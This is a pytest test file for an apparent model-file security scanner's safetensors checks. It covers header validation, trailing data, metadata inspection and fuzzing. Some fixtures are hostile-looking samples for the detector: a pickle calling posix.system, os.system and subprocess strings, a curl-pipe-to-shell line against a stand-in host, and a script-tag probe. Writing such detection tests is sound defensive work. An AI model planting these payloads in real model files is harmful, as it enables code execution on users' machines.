"""safetensors: strict header validation like the reference loader, metadata inspection, trailing data."""

from __future__ import annotations

import base64
import json
import struct
import time
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mlvet.artifacts import Format
from mlvet.config import Settings
from mlvet.findings import Finding, Location, Problem, ProblemKind, Severity, Subject
from mlvet.scan import dispatch
from mlvet.scan.base import Collector, ScanContext
from mlvet.scan.safetensors_format import scan_safetensors
from tests.corpus.gguf_st_hf import safetensors_file


def run(data: bytes) -> tuple[list[Finding], list[Problem]]:
    collector = Collector()
    scan_safetensors(data, ScanContext(Subject(path="model.safetensors"), Settings(), collector, dispatch))
    return collector.findings, collector.problems


def ids(findings: list[Finding]) -> list[tuple[str, Severity]]:
    return [(f.rule.id, f.severity) for f in findings]


def tensor(dtype: str, shape: list[int], begin: int, end: int) -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


def numpy_file(tmp_path: Path, metadata: dict[str, str] | None = None) -> bytes:
    from safetensors.numpy import save_file

    path = tmp_path / "m.safetensors"
    save_file(
        {"a": np.arange(6, dtype=np.float32), "b": np.ones((2, 3), dtype=np.int64)}, str(path), metadata
    )
    return path.read_bytes()


def test_files_written_by_safetensors_are_clean(tmp_path: Path) -> None:
    assert run(numpy_file(tmp_path, {"format": "np"})) == ([], [])


def test_torch_writer_with_bf16_is_clean(tmp_path: Path) -> None:
    import torch
    from safetensors.torch import save_file

    path = tmp_path / "t.safetensors"
    save_file(
        {"w": torch.zeros(3, 5, dtype=torch.bfloat16), "i": torch.arange(4)}, str(path), {"format": "pt"}
    )
    assert run(path.read_bytes()) == ([], [])


def test_empty_header_and_sub_byte_dtypes_are_valid() -> None:
    assert run(safetensors_file({}, b"")) == ([], [])
    assert run(safetensors_file({"q": tensor("F4", [4], 0, 2)}, b"\x00\x00")) == ([], [])


MALFORMED = {
    "length beyond file": (safetensors_file({}, b"", length=1 << 33), "exceeds the"),
    "length over cap": (struct.pack("<Q", 100_000_001) + b"{}", "100000000-byte cap"),
    "short file": (b"\x01\x02", "shorter than the 8-byte header length"),
    "not utf-8": (safetensors_file(b'{"\xff":1}', b""), "not UTF-8"),
    "not json": (safetensors_file(b"{not json}", b""), "not valid JSON"),
    "nan": (safetensors_file(b'{"a": NaN}', b""), "NaN"),
    "array header": (safetensors_file(b"[1, 2]", b""), "not an object"),
    "duplicate key": (safetensors_file(b'{"__metadata__": {}, "__metadata__": {}}', b""), "repeats the key"),
    "metadata not map": (safetensors_file({"__metadata__": ["x"]}, b""), "__metadata__ is a list"),
    "metadata value not str": (safetensors_file({"__metadata__": {"n": 1}}, b""), "'n' is a int"),
    "entry not object": (safetensors_file({"a": 3}, b""), "described by a int"),
    "unknown dtype": (
        safetensors_file({"a": tensor("F128", [1], 0, 16)}, b"\x00" * 16),
        "unknown dtype 'F128'",
    ),
    "negative dim": (safetensors_file({"a": tensor("F32", [-1], 0, 4)}, b"\x00" * 4), "shape [-1]"),
    "float dim": (safetensors_file({"a": tensor("F32", [1.0], 0, 4)}, b"\x00" * 4), "shape [1.0]"),  # type: ignore[list-item]
    "bad offsets": (
        safetensors_file({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0]}}, b""),
        "pair",
    ),
    "reversed offsets": (safetensors_file({"a": tensor("F32", [0], 4, 0)}, b"\x00" * 4), "end before"),
    "size mismatch": (safetensors_file({"a": tensor("F32", [3, 3], 0, 16)}, b"\x00" * 16), "needs 36"),
    "partial bytes": (safetensors_file({"a": tensor("F4", [3], 0, 2)}, b"\x00" * 2), "needs 1.5"),
    "overlap": (
        safetensors_file({"a": tensor("F32", [4], 0, 16), "b": tensor("F32", [4], 8, 24)}, b"\x00" * 24),
        "overlaps",
    ),
    "hole": (safetensors_file({"a": tensor("F32", [1], 4, 8)}, b"\x00" * 8), "belong to no tensor"),
    "out of range": (
        safetensors_file({"a": tensor("F32", [64], 0, 256)}, b"\x00" * 16),
        "of a 16-byte data area",
    ),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_malformed_headers_are_high(case: str) -> None:
    data, reason = MALFORMED[case]
    findings, problems = run(data)
    assert ids(findings) == [("MLV501", Severity.HIGH)]
    assert reason in findings[0].message
    assert problems == []


@pytest.mark.parametrize("case", sorted(set(MALFORMED) - {"nan", "length over cap"}))
def test_the_reference_loader_refuses_what_we_call_malformed(case: str) -> None:
    from safetensors.numpy import load

    with pytest.raises(Exception):  # noqa: B017 - any refusal will do
        load(MALFORMED[case][0])


def test_malformed_tensor_location_points_at_the_entry() -> None:
    findings, _ = run(MALFORMED["unknown dtype"][0])
    assert findings[0].location == Location(offset=8, pointer="/a")


def test_header_length_is_checked_before_anything_is_read() -> None:
    data = struct.pack("<Q", 1 << 62) + b"{"
    started = time.perf_counter()
    assert ids(run(data)[0]) == [("MLV501", Severity.HIGH)]
    assert time.perf_counter() - started < 0.5


def test_trailing_bytes_are_low_and_scanned_when_recognised(tmp_path: Path) -> None:
    findings, problems = run(numpy_file(tmp_path) + b"junk")
    assert ids(findings) == [("MLV503", Severity.LOW)]
    assert problems == []
    pickled = b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00true\x85R."
    findings, _ = run(numpy_file(tmp_path) + pickled)
    assert findings[0].rule.id == "MLV503"
    assert "pickle" in findings[0].message
    assert any(f.subject.member == "trailing-data" for f in findings[1:])


@pytest.mark.parametrize(
    ("value", "severity"),
    [
        ("__import__('os').system('true')", Severity.HIGH),
        ("import subprocess; subprocess.run(['true'])", Severity.HIGH),
        ("curl http://example.invalid/x.sh | sh", Severity.HIGH),
        ("<script>alert(1)</script>", Severity.HIGH),
        ("def hook(model):\n    return model", Severity.MEDIUM),
        ("import numpy as np\nnp.zeros(3)", Severity.MEDIUM),
    ],
)
def test_code_in_metadata(value: str, severity: Severity) -> None:
    findings, _ = run(safetensors_file({"__metadata__": {"note": value}}, b""))
    assert ids(findings) == [("MLV502", severity)]
    assert findings[0].location.pointer == "/__metadata__/note"


def test_base64_pickle_in_metadata_is_high_and_scanned() -> None:
    pickled = b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00true\x85R."
    findings, _ = run(safetensors_file({"__metadata__": {"blob": base64.b64encode(pickled).decode()}}, b""))
    assert ids(findings)[0] == ("MLV502", Severity.HIGH)
    assert "decodes to a pickle" in findings[0].message
    assert any(f.subject.member == "__metadata__/blob" for f in findings[1:])


def test_realistic_metadata_is_clean() -> None:
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4).decode()
    metadata = {
        "format": "pt",
        "ss_network_module": "networks.lora",
        "ss_tag_frequency": json.dumps({"img": {"a cat": 3}}),
        "sshs_model_hash": "0123456789abcdef" * 4,
        "modelspec.thumbnail": f"data:image/png;base64,{png}",
        "modelspec.description": "A LoRA trained for 10 epochs; see https://example.invalid for details.",
    }
    assert run(safetensors_file({"__metadata__": metadata}, b"")) == ([], [])


def test_large_files_are_not_read(tmp_path: Path) -> None:
    from mlvet.scan import scan

    path = tmp_path / "big.safetensors"
    header = safetensors_file({"w": tensor("U8", [1 << 30], 0, 1 << 30)}, b"")
    with path.open("wb") as handle:
        handle.write(header)
        handle.seek(len(header) + (1 << 30) - 1)
        handle.write(b"\x00")
    started = time.perf_counter()
    report = scan([path])
    assert time.perf_counter() - started < 1
    assert report.findings == () and report.problems == ()


_SEED = safetensors_file(
    {"__metadata__": {"format": "pt"}, "a": tensor("F32", [2], 0, 8), "b": tensor("I8", [4], 8, 12)},
    b"\x00" * 12,
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    cut=st.integers(min_value=0, max_value=len(_SEED)),
    flips=st.lists(st.tuples(st.integers(0, len(_SEED) - 1), st.integers(1, 255)), max_size=6),
    tail=st.binary(max_size=32),
)
def test_mutated_files_never_break_the_scanner(cut: int, flips: list[tuple[int, int]], tail: bytes) -> None:
    data = bytearray(_SEED)
    for position, mask in flips:
        data[position] ^= mask
    collector = Collector()
    context = ScanContext(Subject(path="fuzz.safetensors"), Settings(), collector, dispatch)
    dispatch(bytes(data[:cut]) + tail, context, Format.SAFETENSORS)
    assert all(p.kind != ProblemKind.INTERNAL for p in collector.problems), collector.problems
